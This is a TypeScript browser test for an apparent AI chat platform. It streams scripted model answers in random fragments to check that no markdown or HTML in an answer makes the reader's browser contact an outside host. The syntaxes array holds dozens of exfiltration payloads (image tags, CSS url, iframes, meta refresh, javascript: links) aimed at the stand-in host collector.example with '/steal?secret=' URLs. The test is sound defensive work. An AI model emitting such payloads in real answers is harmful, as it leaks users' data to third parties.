import { existsSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { type BrowserContext, chromium, type Page } from '@playwright/test';
import type { ProofReport, RunProof } from '../proof.ts';
import { seededRandom } from '../random.ts';
import { textFrames } from '../stage/frames.ts';
import { startScriptedOpenAi } from '../stage/scripted-openai.ts';
import { connect, makeAgent, openStage } from '../stage/stage.ts';

const program = process.env['AGENTFORGE_CHROMIUM'] ?? '/usr/bin/chromium';
const bundle = fileURLToPath(new URL('../../../apps/web/dist', import.meta.url));
const host = 'collector.example';

/** Ways to make a reader's browser call another host; `{url}` is the host's address with what is to be stolen. */
const syntaxes: readonly string[] = [
  '![picture]({url})',
  '![picture](<{url}> "title")',
  '![reference][one]\n\n[one]: {url}',
  '![one][]\n\n[one]: {url}',
  '![one]\n\n[one]: <{url}> "title"',
  '[![linked]({url})]({url})',
  '![protocol](//collector.example/x)',
  '![upper](HTTPS://COLLECTOR.EXAMPLE/x)',
  '![entity](https&#58;//collector.example/x)',
  '![spaces](  {url}  )',
  '![nested [brackets]]({url})',
  '![line\nbreak]({url})',
  '<img src="{url}">',
  '<img src={url} srcset="{url} 2x">',
  '<IMG SRC="{url}" onerror="fetch(\'{url}\')">',
  '<picture><source srcset="{url}"><img></picture>',
  '<svg><image href="{url}"/></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><use xlink:href="{url}#a"/></svg>',
  '<style>@import url({url});</style>',
  '<div style="background:url({url})">x</div>',
  '<table background="{url}"><tr><td>x</td></tr></table>',
  '<iframe src="{url}"></iframe>',
  '<iframe srcdoc="<img src={url}>"></iframe>',
  '<object data="{url}"></object><embed src="{url}">',
  '<video src="{url}" poster="{url}" autoplay></video><audio src="{url}" autoplay></audio>',
  '<link rel="prefetch" href="{url}"><link rel="dns-prefetch" href="//collector.example">',
  '<script src="{url}"></script>',
  '<meta http-equiv="refresh" content="0;url={url}">',
  '<base href="{url}">',
  '<form action="{url}"><input autofocus onfocus="this.form.submit()"></form>',
  '[link]({url}) and {url} and <{url}>',
  '[click](javascript:fetch("{url}"))',
  '```html\n<img src="{url}">\n```',
  '```mermaid\ngraph LR; A[<img src="{url}">]\n```',
  '| a |\n| - |\n| ![cell]({url}) |',
  '> ![quoted]({url})\n\n1. ![listed]({url})',
  '$$\\includegraphics{{url}}$$ $\\href{{url}}{x}$',
  '[^1]\n\n[^1]: ![note]({url})',
];

/** L02: a model writes what would make the reader's browser carry something away. */
export const exfiltration: RunProof = {
  id: 'L02',
  promise: 'no syntax of an answer, however it is cut into pieces, makes a browser call another host',
  short: syntaxes.length,
  full: syntaxes.length * 10,
  whenBroken: 3,
  breaks: ['content-policy-off'],
  async run({ trials, seed, broken }): Promise<ProofReport> {
    if (!existsSync(program) || !existsSync(bundle)) {
      const figures = {
        'left out': `needs ${existsSync(program) ? 'the built web interface (npm run build)' : program}`,
      };
      return { id: this.id, promise: this.promise, trials: 0, seed, figures, failures: [] };
    }
    const random = seededRandom(seed);
    const model = await startScriptedOpenAi(({ question }) => {
      const index = Number(/case (\d+)/.exec(question)?.[1] ?? 0);
      return { frames: textFrames(pieces(answerTo(index), random)), delayMs: 1 };
    });
    const stage = await openStage({ broken }, { hosts: [model.host] });
    const browser = await chromium.launch({
      executablePath: program,
      args: [
        '--no-sandbox',
        '--disable-gpu',
        '--disable-background-networking',
        '--disable-component-update',
        '--no-first-run',
      ],
    });
    const failures: string[] = [];
    try {
      await connect(stage.client, 'mock', model.url);
      const agentId = await makeAgent(stage.client, { memory_enabled: false, guardrails: { max_length: 'unlimited' } });
      const context = await browser.newContext({ baseURL: stage.server.url });
      const asked = await watch(context, new URL(stage.server.url).host);
      await signIn(context, stage.server.url);
      const page = await context.newPage();
      await page.goto(`/chat/${agentId}`);
      for (let index = 0; index < trials; index += 1) {
        await say(page, index);
        failures.push(
          ...asked.splice(0).map((url) => `syntax ${index % syntaxes.length} made the browser ask for ${url}`),
        );
      }
      // The same once more, as it was kept.
      await page.reload();
      await page.getByText(`END${trials - 1}.`).waitFor({ timeout: 30_000 });
      failures.push(...asked.splice(0).map((url) => `kept answers made the browser ask for ${url}`));
      // Should something slip through one day, the page itself may not call anyone either.
      await page.evaluate(`new Image().src = 'https://${host}/control'`);
      await page.waitForTimeout(500);
      failures.push(...asked.splice(0).map((url) => `the content policy let the page ask for ${url}`));
    } finally {
      await browser.close();
      await stage.close();
      await model.close();
    }
    return { id: this.id, promise: this.promise, trials, seed, figures: { syntaxes: syntaxes.length }, failures };
  },
};

function answerTo(index: number): string {
  const url = `https://${host}/steal?secret=canary${index}`;
  const syntax = syntaxes[index % syntaxes.length] ?? '';
  return `BEGIN${index}.\n\n${syntax.replaceAll('{url}', url)}\n\nEND${index}.`;
}

/** In pieces of one to nine characters, so that every syntax is cut in all its places sooner or later. */
function pieces(text: string, random: () => number): string[] {
  const cut: string[] = [];
  for (let at = 0; at < text.length; ) {
    const length = 1 + Math.floor(random() * 9);
    cut.push(text.slice(at, at + length));
    at += length;
  }
  return cut;
}

/** Addresses of other hosts the browser wanted, newest last. None of them is let out. */
async function watch(context: BrowserContext, own: string): Promise<string[]> {
  const asked: string[] = [];
  await context.route(
    (url) => url.host !== own && url.protocol.startsWith('http'),
    async (route) => {
      asked.push(route.request().url());
      await route.abort();
    },
  );
  return asked;
}

async function signIn(context: BrowserContext, origin: string): Promise<void> {
  const answer = await context.request.post('/api/v1/auth/login', {
    headers: { origin },
    data: { email: 'chaos@example.test', password: 'violet-harbour-tundra-42' },
  });
  if (!answer.ok()) throw new Error(`Nobody could sign in: ${answer.status()}`);
}

async function say(page: Page, index: number): Promise<void> {
  await page.getByRole('textbox', { name: 'Message' }).fill(`case ${index}`);
  await page.keyboard.press('Enter');
  await page.getByText(`END${index}.`).waitFor({ timeout: 30_000 });
  await page.locator('[aria-busy="true"]').waitFor({ state: 'detached', timeout: 30_000 });
}
